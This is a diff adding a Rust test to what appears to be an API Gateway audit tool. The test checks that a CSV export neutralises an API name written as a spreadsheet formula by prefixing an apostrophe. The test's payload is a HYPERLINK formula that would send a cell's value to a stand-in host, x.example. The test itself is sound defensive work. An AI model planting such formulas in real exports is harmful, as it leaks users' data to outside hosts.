@@ -418,3 +418,33 @@ fn a_sweep_keeps_within_the_accounts_quota() {
     assert_eq!(stats["totals"]["throttled"], 0, "{stats}");
     assert_eq!(sb.calls("apigateway", "GetResources"), 24);
 }
+
+#[test]
+fn a_csv_cell_that_starts_like_a_formula_is_written_inert() {
+    let sb = Sandbox::start();
+    let home = tempfile::tempdir().unwrap();
+    let formula = r#"=HYPERLINK("https://x.example/?"&B2,"Pets")"#;
+    let script = r#"
+api = c.create_rest_api(name=sys.argv[2])['id']
+root = c.get_resources(restApiId=api)['items'][0]['id']
+c.put_method(restApiId=api, resourceId=root, httpMethod='GET', authorizationType='NONE')
+print(api)
+"#;
+    let api_id = sb.boto3(script, &[formula]).trim().to_string();
+    let out = common::cli::run(
+        &sb,
+        home.path(),
+        &["audit", "--regions", "us-east-1", "--format", "csv"],
+    );
+    assert_eq!(out.status, 0, "{}{}", out.stdout, out.stderr);
+    let mut reader = csv::Reader::from_reader(out.stdout.as_bytes());
+    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+    let row = records
+        .iter()
+        .find(|r| &r[4] == api_id.as_str())
+        .unwrap_or_else(|| panic!("no row for {api_id}: {}", out.stdout));
+    assert_eq!(&row[5], format!("'{formula}"), "a spreadsheet would run it");
+    assert!(row[5].starts_with("'="));
+    // The counts beside it are numbers still.
+    assert_eq!((&row[6], &row[7]), ("1", "1"));
+}
